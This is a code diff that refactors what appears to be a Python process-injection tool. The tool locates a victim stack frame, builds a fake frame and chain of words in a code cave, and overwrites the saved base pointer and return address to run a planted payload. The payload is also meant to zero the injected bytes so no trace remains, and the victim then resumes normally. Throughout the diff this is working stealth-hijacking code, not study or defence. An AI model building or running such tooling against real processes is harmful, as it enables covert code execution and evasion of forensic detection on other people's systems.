@@ -26,22 +26,36 @@ class InjectionError(Exception):
 
 @dataclass(frozen=True, slots=True)
 class VictimFrame:
-    """A located (saved rbp, saved rip) slot pair on the victim stack."""
+    """A located (saved rbp, saved rip) slot pair on the victim stack.
+
+    The ``resume_*`` properties are where execution, stack and base pointer
+    must end up afterwards: the state the victim's own ``leave; ret`` would
+    have produced.
+    """
 
     rbp_slot_addr: int
     saved_rbp: int
     saved_rip: int
     canary_slot_addr: int
 
+    @property
+    def resume_rip(self) -> int:
+        return self.saved_rip
 
-@dataclass(frozen=True, slots=True)
-class RestorationRecord:
-    """Register values that resume the victim exactly where its own return
-    would have landed it."""
+    @property
+    def resume_rbp(self) -> int:
+        return self.saved_rbp
 
-    resume_rip: int
-    resume_rbp: int
-    resume_rsp: int
+    @property
+    def resume_rsp(self) -> int:
+        return self.rbp_slot_addr + 16
+
+
+def payload_offset(chain_words: int) -> int:
+    """Offset of the payload from the image base: the first 16-byte
+    boundary after the saved-rbp copy, ``chain_words`` chain words and the
+    continuation word."""
+    return (8 * (chain_words + 2) + 15) & ~15
 
 
 @dataclass(frozen=True, slots=True)
@@ -50,7 +64,7 @@ class FakeFrameImage:
 
     ``words[0]`` is the copy of the victim's saved base pointer; the chain
     words follow, ending in the continuation word; an optional payload sits
-    after them at the next 16-byte boundary.
+    after them at ``payload_offset``.
     """
 
     base: int
@@ -68,26 +82,15 @@ class FakeFrameImage:
     def total_len(self) -> int:
         return len(self.image_bytes())
 
-
-@dataclass(frozen=True, slots=True)
-class InjectionRecord:
-    frame: FakeFrameImage
-    overwritten: tuple[int, int]  # original (saved rbp, saved rip) words
-    cleanup_ranges: tuple[tuple[int, int], ...]
-
-
-def _align16(n: int) -> int:
-    return (n + 15) & ~15
-
-
-def restoration_record(victim: VictimFrame) -> RestorationRecord:
-    """Where execution, stack, and base pointer must end up afterwards: the
-    state the victim's own ``leave; ret`` would have produced."""
-    return RestorationRecord(
-        resume_rip=victim.saved_rip,
-        resume_rbp=victim.saved_rbp,
-        resume_rsp=victim.rbp_slot_addr + 16,
-    )
+    @property
+    def cleanup(self) -> tuple[int, int]:
+        """(start, length) the payload must zero afterwards: the frame word,
+        the chain words, and the alignment padding before the payload.  The
+        payload cannot be in it; code cannot zero bytes it has yet to
+        execute."""
+        if self.payload_addr is not None:
+            return self.base, self.payload_addr - self.base
+        return self.base, 8 * len(self.words)
 
 
 def locate_victim_frame(
@@ -138,7 +141,7 @@ def forge_fake_frame(
     cave: CaveRegion,
 ) -> FakeFrameImage:
     """Lay out the frame image for a cave: saved-rbp copy, chain words, a
-    continuation word, then the payload at the next 16-byte boundary.
+    continuation word, then the payload at ``payload_offset``.
 
     The continuation is the payload address when a payload is present;
     otherwise the chain ends directly in the victim's original return
@@ -146,15 +149,14 @@ def forge_fake_frame(
     is written here; the image is data until inject() plants it.
     """
     words = [ChainWord(victim.saved_rbp, "saved-rbp"), *chain.words]
-    head_len = 8 * (len(words) + 1)  # plus the continuation word
     if payload:
-        payload_addr = cave.start + _align16(head_len)
+        payload_addr = cave.start + payload_offset(len(chain.words))
         words.append(ChainWord(payload_addr, "resume-address"))
         total = (payload_addr - cave.start) + len(payload)
     else:
         payload_addr = None
         words.append(ChainWord(victim.saved_rip, "resume-address"))
-        total = head_len
+        total = 8 * len(words)
     if total > cave.length:
         raise InjectionError(
             f"image of {total:#x} bytes exceeds the {cave.length:#x}-byte cave"
@@ -167,24 +169,13 @@ def forge_fake_frame(
     )
 
 
-def plan_cleanup(image: FakeFrameImage) -> tuple[tuple[int, int], ...]:
-    """Ranges the payload must zero afterwards: the frame word, the chain
-    words, and the alignment padding before the payload.  The payload
-    cannot be in the set; code cannot zero bytes it has yet to execute."""
-    if image.payload_addr is not None:
-        length = image.payload_addr - image.base
-    else:
-        length = 8 * len(image.words)
-    return ((image.base, length),)
-
-
 def inject(
     space: AddressSpace,
     prober: Prober,
     victim: VictimFrame,
     image: FakeFrameImage,
     epilogue_gadget_addr: int,
-) -> InjectionRecord:
+) -> None:
     """Plant the image and arm the victim frame, all through safe writes.
 
     Write order: image into the cave, then the saved-base-pointer slot,
@@ -222,8 +213,3 @@ def inject(
         for addr, original in reversed(undo):
             prober.safe_write(space, addr, original)
         raise
-    return InjectionRecord(
-        frame=image,
-        overwritten=(cur_rbp, cur_rip),
-        cleanup_ranges=plan_cleanup(image),
-    )
